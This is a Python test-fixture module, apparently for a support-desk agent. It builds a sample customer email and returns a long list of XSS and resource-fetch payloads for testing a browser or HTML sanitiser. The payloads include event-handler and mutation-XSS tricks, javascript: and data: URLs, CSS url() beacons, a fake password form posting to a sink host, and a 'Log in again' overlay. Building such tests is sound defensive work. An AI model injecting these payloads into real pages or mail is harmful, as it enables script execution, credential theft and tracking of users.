"""Mails for the desks' tests, and markup that strangers would send to an agent's browser."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.policy import SMTP

from tests.desk.room import PNG

DMARC = (
    "mx.example.com; spf=pass smtp.mailfrom=ann@example.org; dkim=pass header.d=example.org; "
    "dmarc=pass header.from=example.org"
)


def mail(
    html: str | None = None,
    text: str = "The kettle that I bought leaks.",
    *,
    proof: str = DMARC,
    subject: str = "The kettle",
    cc: str = "",
    files: tuple[tuple[str, str, bytes], ...] = (),
    message_id: str = "<m1@example.org>",
) -> bytes:
    """From Ann to our support, as her mail program writes it. An HTML part has PNG as cid:logo@example.org."""
    out = EmailMessage(policy=SMTP)
    if proof:
        out["Authentication-Results"] = proof
    out["From"], out["To"], out["Subject"] = "Ann Miller <ann@example.org>", "support@example.com", subject
    if cc:
        out["Cc"] = cc
    out["Message-ID"], out["Date"] = message_id, "Fri, 20 Nov 2026 10:20:00 +0000"
    out.set_content(text)
    if html is not None:
        out.add_alternative(html, subtype="html")
        (_, marked) = out.iter_parts()
        assert isinstance(marked, EmailMessage)
        marked.add_related(PNG, "image", "png", cid="<logo@example.org>")
    for name, kind, data in files:
        main, _, sub = kind.partition("/")
        out.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return out.as_bytes()


def payloads(sink: str) -> list[str]:
    """Markup that says RAN on the console where a script of it runs, or asks `sink` (http://host:port) for something.

    The shapes are those of the collections that browsers and sanitisers are tried with: elements, handlers, addresses,
    parsers' confusions (mutation), styles, forms, plug-ins, frames, metadata, encodings.
    """
    js = "console.log('RAN')"
    host = sink.removeprefix("http:")
    svg = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"><script>{js}</script></svg>".encode()
    ).decode()
    page = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    coded = "".join(f"&#{ord(c)};" for c in f"javascript:{js}")
    return [
        # scripts
        f"<script>{js}</script>",
        f"<SCRIPT SRC={sink}/x.js></SCRIPT>",
        f"<script src='data:text/javascript,{js}'></script>",
        f"<scr<script>ipt>{js}</scr</script>ipt>",
        f"<script\x00>{js}</script>",
        f"<script/x>{js}</script >",
        f"<script type=module>import '{sink}/m.js'</script>",
        f"<svg><script>{js}</script></svg>",
        f"<svg><script href='{sink}/x.js' /></svg>",
        f"<math><script>{js}</script></math>",
        f"<template><script>{js}</script></template>",
        f'<noscript><p title="</noscript><script>{js}</script>">',
        f'<iframe srcdoc="<script>{js}</script>"></iframe>',
        # handlers
        f'<img src=x onerror="{js}">',
        f"<img src=x onerror={js}//",
        f'<IMG SRC=x\nOnErRoR\n=\n"{js}">',
        f"<img src='x'onerror=\"{js}\">",
        f"<img/src=x/onerror={js}>",
        f'<image src=x onerror="{js}">',
        f'<svg onload="{js}">',
        f"<svg/onload={js}>",
        f'<svg><animate onbegin="{js}" attributeName=x dur=1s>',
        f'<svg><set onbegin="{js}" attributeName=x to=y>',
        f'<svg><a><animate attributeName=href values="javascript:{js}" /><text x=20 y=20>go</text></a></svg>',
        f'<body onload="{js}" onpageshow="{js}">',
        f'<input autofocus onfocus="{js}">',
        f'<select autofocus onfocus="{js}"><option>x</select>',
        f'<textarea autofocus onfocus="{js}"></textarea>',
        f'<a id=x tabindex=1 autofocus onfocus="{js}">x</a>',
        f'<details open ontoggle="{js}"><summary>x</summary></details>',
        f'<video src=x onerror="{js}"></video>',
        f'<video><source onerror="{js}" src=x></video>',
        f'<audio src=x onerror="{js}" autoplay></audio>',
        f'<marquee onstart="{js}">x</marquee>',
        f"<div style='animation:a 1s' onanimationstart=\"{js}\">x</div><style>@keyframes a{{}}</style>",
        f"<p style='transition:1s' ontransitionend=\"{js}\">x",
        f'<p popover id=p onbeforetoggle="{js}">x</p><button popovertarget=p>b</button>',
        f'<div contenteditable oninput="{js}" onclick="{js}" style=\'position:fixed;inset:0\'>click</div>',
        f'<x onpointerrawupdate="{js}" onmouseover="{js}">x</x>',
        f"<p title='\" onmouseover=\"{js}'>x",
        # addresses
        f'<a href="javascript:{js}">go</a>',
        f'<a href="JaVaScRiPt:{js}">go</a>',
        f'<a href=" \x01javascript:{js}">go</a>',
        f'<a href="java\tscript:{js}">go</a>',
        f'<a href="java&#10;script:{js}">go</a>',
        f'<a href="javascript&colon;{js}">go</a>',
        f'<a href="{coded}">go</a>',
        f'<a href="data:text/html;base64,{page}">go</a>',
        f'<a href="vbscript:msgbox(1)">go</a><a href="blob:{sink}/1">go</a><a href="filesystem:{sink}/1">go</a>',
        f"<a href=\"https:{host.replace('//', '/')}\">go</a><a href='//{host}'>go</a><a href='/login'>go</a>",
        f"<a ping='{sink}/ping' href='https://example.org/'>go</a>",
        f'<area href="javascript:{js}" shape=rect coords=0,0,99,99><map name=m></map><img usemap=#m src=x>',
        f'<form action="javascript:{js}"><button autofocus>go</button></form>',
        f'<form id=f></form><button form=f formaction="javascript:{js}">go</button>',
        f"<form action='{sink}/form' method=post><input name=password type=password><button>Log in</button></form>",
        f'<iframe src="javascript:{js}"></iframe>',
        f"<iframe src='{sink}/frame'></iframe>",
        f"<frameset onload=\"{js}\"><frame src='{sink}/f'></frameset>",
        f"<object data='data:text/html;base64,{page}'></object>",
        f"<object data='{sink}/o'><param name=src value='{sink}/p'></object>",
        f"<embed src='data:image/svg+xml;base64,{svg}'>",
        f"<embed src='{sink}/e'>",
        f"<applet code=x archive='{sink}/a'></applet>",
        f"<img src='data:image/svg+xml;base64,{svg}'>",
        f'<img src="javascript:{js}">',
        f"<base href='{sink}/'><img src=a><a href=b>c</a>",
        f"<meta http-equiv=refresh content='0;url={sink}/refresh'>",
        f'<meta http-equiv=refresh content="0;url=javascript:{js}">',
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
        # what fetches
        f"<img src='{sink}/pixel.gif' width=1 height=1>",
        f"<img src='{host}/pixel.gif'>",
        f"<img srcset='{sink}/a 1x, {sink}/b 2x' lowsrc='{sink}/c' dynsrc='{sink}/d' longdesc='{sink}/e'>",
        f"<picture><source srcset='{sink}/a'><img src='{sink}/b'></picture>",
        f"<link rel=stylesheet href='{sink}/x.css'><link rel=prefetch href='{sink}/p'>",
        f"<link rel=preconnect href='{sink}'><link rel=dns-prefetch href='{host}'><link rel=icon href='{sink}/i'>",
        f"<link rel=manifest href='{sink}/m'><link rel=preload as=image href='{sink}/q'>",
        f"<table background='{sink}/t'><td background='{sink}/d'>x</td></table><body background='{sink}/b'>",
        f"<video poster='{sink}/v' src='{sink}/w' autoplay></video><audio src='{sink}/s' autoplay></audio>",
        f"<track src='{sink}/t'><bgsound src='{sink}/b'><input type=image src='{sink}/i'>",
        f"<svg><image href='{sink}/i' xlink:href='{sink}/j' width=9 height=9 /><use href='{sink}/u#x' /></svg>",
        f"<svg><filter id=f><feImage href='{sink}/f' /></filter><rect width=9 height=9 filter='url(#f)' /></svg>",
        f"<math href=\"javascript:{js}\" background='{sink}/m'>x</math>",
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{sink}/s"]}}]}}</script>',
        # styles
        f"<style>@import '{sink}/i.css'; @font-face{{font-family:f;src:url({sink}/f)}} *{{font-family:f}}</style>x",
        f"<style>body{{background:url('{sink}/b')}} a::after{{content:url({sink}/c)}}</style>",
        f'<p style="background:url({sink}/u)">x',
        f'<p style="background-image:u\\72l({sink}/u);list-style:url({sink}/l)">x',
        f"<p style=\"background:image-set('{sink}/s' 1x);cursor:url({sink}/c),auto\">x",
        f'<p style="content:url({sink}/c);border-image:url({sink}/b);mask:url({sink}/m)">x',
        f'<p style="color:red/**/;background/**/:/**/url({sink}/k)">x',
        f'<p style="--x:url({sink}/v);background:var(--x)">x',
        f'<p style="width:expression({js});behavior:url({sink}/h);-moz-binding:url({sink}/z)">x',
        f"<p style=\"font-family:'x';}}</style><img src=x onerror={js}>\">x",
        "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Log in again, please</p>",
        # parsers' confusions
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
        f'<math><mtext><table><mglyph><style><math><img src=x onerror="{js}">',
        f'<svg></p><style><a id="</style><img src=x onerror={js}>">',
        f"<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
        f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">',
        f"<table><td><math><annotation-xml encoding='text/html'><style><img src=x onerror=\"{js}\"></style>",
        f"<!--<img src='--><img src=x onerror={js}>'>",
        f"<!--[if true]><script>{js}</script><![endif]--><![if !mso]><img src=x onerror={js}><![endif]>",
        f"<!--><script>{js}</script>-->",
        f"<xmp><p title='</xmp><img src=x onerror={js}>'>",
        f"<textarea><img title='</textarea><img src=x onerror={js}>'>",
        f"<title><p title='</title><img src=x onerror={js}>'>",
        f'<select><style></select><img src=x onerror="{js}"></style>',
        f"<noembed><img title='</noembed><img src=x onerror={js}>'><plaintext><script>{js}</script>",
        f"<b title='&quot;&gt;&lt;img src=x onerror={js}&gt;'>x</b>",
        f"<a href='https://example.org/&quot;onmouseover=&quot;{js}'>x</a>",
        f'<a href="https://example.org/" title=\'x" data-to="bank.example"><script>{js}</script>\'>x</a>',
        f"&lt;script&gt;{js}&lt;/script&gt;<p>&amp;lt;img src=x onerror={js}&amp;gt;",
        f"<img alt='\"><script>{js}</script>' src='{sink}/alt'>",
        f"<img src='cid:logo@example.org\" onerror=\"{js}'><img src='cid:../../login'>",
        f"+ADw-script+AD4-{js}+ADw-/script+AD4-",
        f"\x1b$B<script>{js}</script>\x1b(B",
    ]
